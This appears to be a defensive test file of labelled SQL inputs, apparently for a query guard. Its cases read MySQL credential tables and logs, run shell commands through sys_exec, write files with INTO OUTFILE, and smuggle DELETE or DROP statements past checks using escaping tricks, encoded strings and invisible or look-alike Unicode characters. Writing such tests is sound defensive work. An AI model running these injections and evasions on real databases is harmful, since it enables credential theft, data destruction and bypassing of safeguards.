SELECT id, email FROM customer LIMIT 1 INTO @i, @e
---
-- settings: show variables
SHOW GLOBAL VARIABLES
---
-- settings: show variables like
SHOW VARIABLES LIKE 'secure_file_priv'
---
-- settings: system variables in a select
SELECT @@secure_file_priv, @@datadir, @@hostname, @@version, @@global.plugin_dir, @@basedir
---
-- settings: show status
SHOW STATUS WHERE Variable_name LIKE 'Ssl%'
---
-- settings: system variables schema table
SELECT * FROM information_schema.system_variables
---
-- settings: global_variables
SELECT * FROM information_schema.global_variables
---
-- secrets: mysql.user
SELECT User, Host, authentication_string FROM mysql.user
---
-- secrets: mysql.global_priv
SELECT Host, User, Priv FROM mysql.global_priv
---
-- secrets: mysql.global_priv in backticks
SELECT * FROM `mysql`.`global_priv`
---
-- secrets: mysql.user with blanks around the dot
SELECT * FROM mysql . user
---
-- secrets: mysql.user with a comment around the dot
SELECT * FROM mysql/**/./*x*/`user`
---
-- secrets: mysql.user in upper case in a subquery
SELECT id, (SELECT GROUP_CONCAT(Password) FROM MYSQL.USER) FROM customer
---
-- secrets: leading dot names the present schema
SELECT * FROM .customer JOIN mysql.user
---
-- secrets: joined through odbc braces
SELECT * FROM { OJ mysql.user LEFT OUTER JOIN customer ON 1 = 1 }
---
-- secrets: db, tables_priv, proxies_priv, roles_mapping
SELECT * FROM mysql.db UNION SELECT * FROM mysql.db
---
-- secrets: the other grant tables
SELECT * FROM mysql.tables_priv, mysql.proxies_priv, mysql.roles_mapping
---
-- secrets: innodb and statistics tables that show values
SELECT * FROM mysql.column_stats
---
-- secrets: general log
SELECT argument FROM mysql.general_log
---
-- secrets: slow log
SELECT sql_text FROM mysql.slow_log
---
-- secrets: processlist
SELECT * FROM information_schema.processlist
---
-- secrets: processlist in mixed case
SELECT info FROM INFORMATION_SCHEMA.`PROCESSLIST`
---
-- secrets: performance_schema
SELECT * FROM performance_schema.threads
---
-- secrets: performance_schema statements
SELECT sql_text FROM performance_schema.events_statements_history_long
---
-- secrets: performance_schema user variables of other sessions
SELECT * FROM performance_schema.user_variables_by_thread
---
-- secrets: replication password
SELECT * FROM performance_schema.replication_connection_configuration
---
-- secrets: sys schema
SELECT * FROM sys.session
---
-- secrets: information_schema.user_privileges
SELECT * FROM information_schema.user_privileges
---
-- secrets: information_schema.user_variables
SELECT * FROM information_schema.user_variables
---
-- secrets: routines and triggers text
SELECT routine_definition FROM information_schema.routines
---
-- secrets: show grants
SHOW GRANTS
---
-- secrets: show grants for another
SHOW GRANTS FOR root@localhost
---
-- secrets: show processlist
SHOW FULL PROCESSLIST
---
-- secrets: show create user
SHOW CREATE USER CURRENT_USER()
---
-- secrets: show master status and binary logs
SHOW BINARY LOGS
---
-- secrets: show binlog events
SHOW BINLOG EVENTS LIMIT 100
---
-- secrets: show slave status
SHOW ALL SLAVES STATUS
---
-- secrets: show engine innodb status
SHOW ENGINE INNODB STATUS
---
-- secrets: show plugins
SHOW PLUGINS SONAME 'auth_socket.so'
---
-- secrets: show explain for
SHOW EXPLAIN FOR 1
---
-- secrets: show analyze for
SHOW ANALYZE FORMAT=JSON FOR 1
---
-- secrets: show create procedure
SHOW CREATE PROCEDURE mysql.AddGeometryColumn
---
-- secrets: show databases
SHOW DATABASES
---
-- secrets: user functions
SELECT USER(), CURRENT_USER(), SESSION_USER(), SYSTEM_USER(), CURRENT_ROLE(), DATABASE(), VERSION(), CONNECTION_ID()
---
-- secrets: describe of a hidden table
DESCRIBE mysql.global_priv
---
-- secrets: table statement of another server
TABLE mysql.user
---
-- functions: next value for
SELECT NEXT VALUE FOR evil_seq
---
-- functions: next value for with comments between
SELECT NEXT/**/VALUE/**/FOR/**/`evil_seq`
---
-- functions: nextval
SELECT NEXTVAL(evil_seq)
---
-- functions: previous value and lastval
SELECT PREVIOUS VALUE FOR evil_seq, LASTVAL(evil_seq)
---
-- functions: setval
SELECT SETVAL(evil_seq, 1, 0, 0)
---
-- functions: oracle way of the next value
SELECT evil_seq.nextval, evil_seq.currval
---
-- functions: last_insert_id with an argument
SELECT LAST_INSERT_ID(42)
---
-- functions: sys_exec
SELECT sys_exec('touch {target}')
---
-- functions: sys_eval
SELECT sys_eval('cat {outside}'), sys_get('HOME'), sys_set('A', 'b')
---
-- functions: udf in another schema
SELECT mysql.sys_exec('touch {target}')
---
-- functions: stored function
SELECT evil_fn()
---
-- functions: stored function qualified with blanks
SELECT `test` . `evil_fn` ()
---
-- functions: do with a stored function
DO evil_fn()
---
-- functions: call
CALL evil_proc()
---
-- functions: call without parentheses
CALL test.evil_proc
---
-- functions: call of the sys schema
CALL sys.execute_prepared_stmt('DELETE FROM orders')
---
-- functions: procedure analyse
SELECT * FROM customer PROCEDURE ANALYSE()
---
-- functions: procedure analyse with a nested error
SELECT id FROM customer PROCEDURE ANALYSE(EXTRACTVALUE(1, CONCAT(0x7e, VERSION())), 1)
---
-- functions: updatexml shows values in the error
SELECT UPDATEXML(1, CONCAT(0x7e, (SELECT email FROM customer LIMIT 1)), 1)
---
-- functions: uuid_short, rand and name_const
SELECT NAME_CONST('a', SLEEP(10)), UUID_SHORT()
---
-- functions: wsrep waits
SELECT WSREP_SYNC_WAIT_UPTO_GTID('0-1-1', 600)
---
-- functions: decode_histogram, load of binlog position
SELECT BINLOG_GTID_POS('binlog.000001', 4)
---
-- functions: execute immediate
EXECUTE IMMEDIATE 'DELETE FROM orders'
---
-- prepared: execute immediate of pieces
EXECUTE IMMEDIATE CONCAT('DEL', 'ETE FROM ', 'orders')
---
-- prepared: execute immediate of a hex string
EXECUTE IMMEDIATE 0x44454C4554452046524F4D206F7264657273
---
-- prepared: execute immediate with values
EXECUTE IMMEDIATE 'DELETE FROM orders WHERE id = ?' USING 1
---
-- prepared: prepare from a string
PREPARE p FROM 'DELETE FROM orders'; EXECUTE p
---
-- prepared: prepare from a variable
SET @s = 'DROP TABLE orders'; PREPARE p FROM @s; EXECUTE p; DEALLOCATE PREPARE p
---
-- prepared: prepare from an expression
PREPARE p FROM CONCAT('SELECT LOAD_FILE(', QUOTE('{outside}'), ')')
---
-- prepared: prepare from a reversed string
PREPARE p FROM REVERSE('sredro MORF ETELED'); EXECUTE p
---
-- prepared: execute using
EXECUTE p USING @a, @b
---
-- prepared: deallocate and drop prepare
DROP PREPARE p
---
-- prepared: prepare in a compound
BEGIN NOT ATOMIC PREPARE p FROM 'DELETE FROM orders'; EXECUTE p; END
---
-- syntax: backslash escapes the quote
SELECT '\''; DELETE FROM orders; -- '
---
-- syntax: backslash at the end of a string
SELECT '\\'; DELETE FROM orders; -- '
---
-- syntax: three backslashes
SELECT '\\\'', 1; DELETE FROM orders; -- '
---
-- syntax: double quotes are a string here
SELECT "a'b"; DELETE FROM orders; -- "'"
---
-- syntax: double quotes with a backslash
SELECT "\""; DELETE FROM orders; -- "
---
-- syntax: under ansi quotes this is a name
SET sql_mode = 'ANSI_QUOTES'; SELECT 1 AS "'" FROM customer; DELETE FROM orders; -- '
---
-- syntax: no_backslash_escapes changes where the string ends
SET sql_mode = 'NO_BACKSLASH_ESCAPES'; SELECT '\'; DELETE FROM orders; -- '
---
-- syntax: quote within a backtick name
SELECT 1 AS `'`; DELETE FROM orders; SELECT 2 AS `'`
---
-- syntax: doubled backticks within a name
SELECT 1 AS ```;`; DELETE FROM orders; -- `
---
-- syntax: backslash within backticks is no escape
SELECT 1 AS `\`; DELETE FROM orders; -- `
---
-- syntax: comment mark within backticks
SELECT 1 AS `/*`; DELETE FROM orders; SELECT 2 AS `*/`
---
-- syntax: hash within a string and within a name
SELECT '#', `#` FROM (SELECT 1 AS `#`) x; DELETE FROM orders
---
-- syntax: executable comment within a string is text, the outfile after it is not
SELECT '/*! x' INTO OUTFILE '{target}' # */'
---
-- syntax: string that continues on the following line
SELECT 'a'
'\'' ; DELETE FROM orders; -- '
---
-- syntax: hex and bit strings
SELECT x'27', b'0', 0x27; DELETE FROM orders
---
-- syntax: character set marks
SELECT _latin1'\'' COLLATE latin1_bin; DELETE FROM orders; -- '
---
-- syntax: national string
SELECT N'\''; DELETE FROM orders; -- '
---
-- syntax: number glued to the word
SELECT 1e0FROM customer; DELETE FROM orders
---
-- syntax: scientific number hides the union
SELECT id FROM customer WHERE id = 1e0UNION SELECT user FROM mysql.user
---
-- syntax: null as backslash n
SELECT \N, SLEEP(30)
---
-- syntax: no blanks at all
SELECT(SLEEP(30))FROM(customer)WHERE(1)
---
-- syntax: operators instead of words
SELECT 1 || SLEEP(30), 1 && SLEEP(30), !SLEEP(30), ~SLEEP(30)
---
-- syntax: zero-width blank in the verb, then the true one
DELE​TE FROM orders; DELETE FROM orders
---
-- syntax: zero-width blank before the verb
​DELETE FROM orders
---
-- syntax: no-break space is a name here, then a true write
SELECT 1  ; DELETE FROM orders
---
-- syntax: zero-width blank within a name, then a true outfile
SELECT id​ FROM (SELECT 1 AS id​) s INTO OUTFILE '{target}'
---
-- syntax: fullwidth semicolon is a name here, then a true write
SELECT 1 AS ；; DELETE FROM orders
---
-- syntax: ideographic space as a name between the value and the outfile
SELECT 1 　 INTO OUTFILE '{target}'
---
-- syntax: byte order mark before the verb
﻿DELETE FROM orders
---
-- syntax: no-break space instead of a blank
SELECT SLEEP(30); SELECT SLEEP(30)
---
-- syntax: ideographic space instead of a blank
DELETE　FROM orders; DELETE FROM orders
---
-- syntax: cyrillic e in the verb, then the true one
DЕLЕTE FROM orders; DELETE FROM orders
---
-- syntax: fullwidth quote does not end the string
SELECT '＇'; DELETE FROM orders; -- '
---
-- syntax: multibyte sign that swallows the backslash in gbk
SELECT '繗\''; DELETE FROM orders; -- '
---
-- syntax: right-to-left override makes it read as a comment
SELECT 1; /*‮ */ DELETE FROM orders; /* ‬*/
---
-- syntax: line separator does not end a line comment
SELECT 1 #  harmless
; DELETE FROM orders
---
-- syntax: vertical tab and form feed as blanks
DELETEFROMorders
---
-- syntax: carriage return does not end a hash comment, the line's end does
SELECT 1 #harmless
; DELETE FROM orders
---
-- syntax: accented name beside the true one
SELECT mýsql.User FROM mysql.user AS mýsql
---
-- syntax: index hints before into
SELECT * FROM customer AS c USE INDEX () IGNORE INDEX FOR ORDER BY (PRIMARY) INTO OUTFILE '{target}'
---
-- syntax: high_priority, sql_no_cache and straight_join before a sleep
SELECT HIGH_PRIORITY STRAIGHT_JOIN SQL_SMALL_RESULT SQL_BUFFER_RESULT SQL_NO_CACHE SQL_CALC_FOUND_ROWS SLEEP(30) FROM customer
---
-- syntax: offset with rows examined
SELECT SLEEP(5) FROM customer LIMIT 10 ROWS EXAMINED 18446744073709551615
---
-- syntax: oracle mode block
SET sql_mode = ORACLE; BEGIN DELETE FROM orders; END;
---
-- syntax: a markdown fence around it
```sql
DELETE FROM orders;
```
---
-- syntax: a sentence before it
Sure! Here is the query: SELECT 1; DELETE FROM orders;
---
-- syntax: parameters
SELECT * FROM customer WHERE id = ?; DELETE FROM orders WHERE id = ?
---
-- syntax: percent signs of a driver
SELECT '%s', '%(x)s', 100 % 3; DELETE FROM orders
---
-- syntax: parentheses around a select with an outfile after the bracket
((SELECT 1)) UNION ((SELECT 2)) INTO OUTFILE '{target}'
---
-- syntax: dual and limit with an outfile
SELECT 1 FROM DUAL LIMIT 1 OFFSET 0 INTO OUTFILE '{target}'
---
-- syntax: except, intersect and a hidden table
SELECT name FROM customer EXCEPT SELECT user FROM mysql.user INTERSECT SELECT user FROM mysql.user
---
-- syntax: deep parentheses
SELECT ((((((((((((((((((((((((((((((((((((((((((((((((SLEEP(30)))))))))))))))))))))))))))))))))))))))))))))))))
